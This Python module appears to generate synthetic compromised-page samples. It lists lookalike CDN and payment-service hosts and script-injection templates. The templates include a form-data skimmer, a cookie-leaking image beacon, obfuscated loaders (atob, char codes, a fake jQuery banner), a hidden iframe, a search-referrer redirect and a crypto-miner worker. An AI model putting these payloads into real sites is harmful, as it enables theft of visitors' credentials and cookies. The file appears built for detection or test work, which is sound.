# ruff: noqa: E501  (markup kept on one line, as it is written into the page)
"""Foreign scripts: hosts dressed as Chinese, Japanese and Korean CDNs, analytics and payment
services, or plain random ones, and the ways they are loaded (the script family)."""

from __future__ import annotations

SCRIPT_HOSTS = (
    "cdn.staticfile-mirror.com",
    "s1.hm-tongji.cn",
    "js.alipay-checkout.net",
    "res.wxqq-opencdn.com",
    "g.alicdn-static.cc",
    "static.bdimg-cdn.net",
    "cdn.bootcdn-js.org",
    "tj.cnzz-stat.cc",
    "pay.unionpay-secure.top",
    "cdn.jsdelivr-mirror.jp",
    "static.naver-wcs.kr",
    "sdk.kakao-pay.link",
    "u9x2k.oss-cn-hangzhou.xyz",
    "qrt7fa.cloudfront-cdn.site",
    "api.line-analytics.me",
)

SCRIPT_PATHS = (
    "/js/jquery.cookie.min.js",
    "/libs/stat.js",
    "/v2/sdk/checkout.min.js",
    "/open/js/share.js",
    "/lib/swiper.min.js",
    "/gtm/loader.js",
)

# {host} {path} {b64}: the styles; each is a plain name and a template.
LOADERS = (
    ("plain", '<script src="https://{host}{path}"></script>'),
    ("async-defer", '<script async defer src="//{host}{path}?t={stamp}"></script>'),
    (
        "create-element",
        "<script>(function(){{var s=document.createElement('script');s.src='https://{host}{path}';document.head.appendChild(s)}})();</script>",
    ),
    (
        "atob",
        "<script>(function(d){{var u=atob('{b64}');var s=d.createElement('script');s.src=u;d.body.appendChild(s)}})(document);</script>",
    ),
    (
        "document-write",
        "<script>document.write('<scr'+'ipt src=\"https://{host}{path}\"></scr'+'ipt>');</script>",
    ),
    (
        "char-codes",
        "<script>setTimeout(function(){{var s=document.createElement('script');s.src=String.fromCharCode({codes});document.head.appendChild(s)}},{delay});</script>",
    ),
    (
        "skimmer",
        "<script>document.addEventListener('submit',function(e){{var f=new FormData(e.target),o={{}};f.forEach(function(v,k){{o[k]=v}});navigator.sendBeacon('https://{host}/collect',JSON.stringify(o))}},true);</script>",
    ),
    (
        "iframe",
        '<iframe src="https://{host}/tj.html" width="0" height="0" frameborder="0" style="display:none"></iframe>',
    ),
    (
        "mobile-redirect",
        "<script>if(/Android|iPhone|MicroMessenger/i.test(navigator.userAgent)&&document.referrer.indexOf('{engine}')>-1){{location.replace('https://{host}/m/')}}</script>",
    ),
    (
        "module-import",
        "<script type=\"module\">import('https://{host}{path}').catch(function(){{}});</script>",
    ),
    (
        "preload",
        '<link rel="preload" href="https://{host}{path}" as="script"><script src="https://{host}{path}" integrity="" crossorigin></script>',
    ),
    (
        "jsonp",
        '<script>window.__cb{stamp}=function(r){{eval(r.c)}};</script><script src="https://{host}/api/cfg?callback=__cb{stamp}"></script>',
    ),
    (
        "wasm-miner",
        "<script src=\"https://{host}/w/lib.min.js\"></script><script>try{{new Worker('https://{host}/w/w.js')}}catch(e){{}}</script>",
    ),
    (
        "image-beacon",
        "<script>(new Image()).src='https://{host}/p.gif?c='+encodeURIComponent(document.cookie)+'&u='+encodeURIComponent(location.href);</script>",
    ),
    (
        "fake-jquery",
        "<script>/*! jQuery Migrate v3.4.1 */(function(){{var h='{host}';var s=document.createElement('script');s.src='//'+h+'{path}';(document.head||document.body).appendChild(s)}})();</script>",
    ),
)

ENGINES = ("baidu", "sogou", "so.com", "yahoo.co.jp", "naver", "google")
